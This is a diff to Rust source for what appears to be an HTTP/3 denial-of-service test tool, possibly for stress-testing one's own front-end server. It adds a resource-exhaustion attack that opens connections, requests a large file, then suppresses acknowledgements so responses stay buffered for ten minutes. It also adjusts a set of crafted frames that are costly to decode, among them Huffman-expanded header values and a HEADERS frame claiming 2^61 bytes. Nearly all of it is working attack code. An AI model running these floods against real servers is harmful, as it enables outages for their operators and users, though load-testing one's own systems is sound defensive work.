@@ -8,11 +8,15 @@ use tokio::task::yield_now;
 use tokio::time::timeout;
 
 use crate::attacker::Attacker;
-use crate::http::{HEADERS, HTTP3, connect_http3, frame3, section3, tls};
+use crate::http::{HEADERS, HTTP3, LARGE_FILE, connect_http3, frame3, section3, tls};
+use crate::relay::Relay;
 use crate::stream::LOCAL;
 
 /// Connections at a time.
 const CLIENTS: usize = 9;
+/// Connections without acknowledgements, and requests on each of them.
+const DEAF: usize = 4;
+const UNACKNOWLEDGED: usize = 64;
 /// Payload of a large frame: just below the size at which the front discards frames.
 const LARGE: usize = 65_000;
 /// Code of a request that is no longer wanted (RFC 9114, 8.1).
@@ -27,7 +31,7 @@ pub(crate) async fn resets(attacker: Rc<Attacker>) {
     let flood = move |attacker: Rc<Attacker>, at: usize| {
         let tls = tls.clone();
         async move {
-            let mut client = connect_http3(&attacker.target, &tls, LOCAL).await?;
+            let mut client = connect_http3(attacker.target.http(), &tls, LOCAL).await?;
             let request = frame3(HEADERS, &section3("/"));
             // All of a head, or its first byte.
             let sent = if at.is_multiple_of(2) { &request[..] } else { &request[..1] };
@@ -43,6 +47,29 @@ pub(crate) async fn resets(attacker: Rc<Attacker>) {
     attacker.workers(CLIENTS, flood).await;
 }
 
+/// Requests for a large file, of whose responses nothing is acknowledged.
+pub(crate) async fn unacknowledged(attacker: Rc<Attacker>) {
+    let tls = tls(&attacker.target, HTTP3);
+    let ask = move |attacker: Rc<Attacker>, _at| {
+        let tls = tls.clone();
+        async move {
+            let relay = Relay::to(attacker.target.http(), 1).await?;
+            let mut client = connect_http3(relay.address, &tls, LOCAL).await?;
+            for _ in 0..UNACKNOWLEDGED {
+                let stream = client.open(Dir::Bidi).await?;
+                client.write(stream, &frame3(HEADERS, &section3(LARGE_FILE))).await?;
+                client.finish(stream);
+                attacker.count(1);
+            }
+            client.linger(Duration::from_millis(1)).await?;
+            relay.deafen();
+            // Its probes keep the connection alive.
+            client.linger(Duration::from_secs(600)).await
+        }
+    };
+    attacker.workers(DEAF, ask).await;
+}
+
 /// Bytes of request streams: field sections that cost more to decode than to send, or more to keep, and other frames.
 fn bombs() -> [Vec<u8>; 6] {
     let get = section3("/");
@@ -55,8 +82,8 @@ fn bombs() -> [Vec<u8>; 6] {
         with(&endless),
         // `accept-encoding: gzip, deflate, br` of the static table.
         with(&[0xdf].repeat(LARGE - get.len())),
-        // A value of 5-bit codes (Huffman), which is half as long again when it is decoded.
-        with(&[&b"\x21a\xff\xe1\xf9\x03"[..], &[0x63, 0x18, 0xc6, 0x31, 0x8c].repeat(12_900)].concat()),
+        // A value of 64,500 bytes of codes with 5 bits (Huffman): 103,200 bytes when it is decoded.
+        with(&[&b"\x21a\xff\xf5\xf6\x03"[..], &[0; 64_500]].concat()),
         // HEADERS that claims 2^61 bytes.
         [&[HEADERS, 0xe0, 0, 0, 0, 0, 0, 0, 0][..], &[0xdf; LARGE]].concat(),
         [frame3(RESERVED, &[0; LARGE]).repeat(16), frame3(HEADERS, &get)].concat(),
@@ -81,7 +108,7 @@ pub(crate) async fn frames(attacker: Rc<Attacker>) {
     let flood = move |attacker: Rc<Attacker>, at: usize| {
         let (tls, bombs, floods) = (tls.clone(), Rc::clone(&bombs), Rc::clone(&floods));
         async move {
-            let mut client = connect_http3(&attacker.target, &tls, LOCAL).await?;
+            let mut client = connect_http3(attacker.target.http(), &tls, LOCAL).await?;
             if let Some(bomb) = bombs.get(at % (bombs.len() + 1)) {
                 loop {
                     let stream = client.open(Dir::Bidi).await?;
